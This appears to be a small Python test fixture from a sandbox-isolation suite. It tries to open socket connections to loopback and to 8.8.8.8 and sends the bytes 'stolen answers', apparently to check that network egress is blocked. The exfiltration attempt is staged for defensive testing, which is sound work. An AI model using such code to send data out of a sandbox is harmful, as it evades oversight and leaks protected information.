# (h) opens network connections: a loopback server of the test, and the outside world
import socket

for host, port in [("127.0.0.1", @PORT@), ("localhost", @PORT@), ("8.8.8.8", 53)]:
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            connection.sendall(b"stolen answers")
    except OSError:
        pass
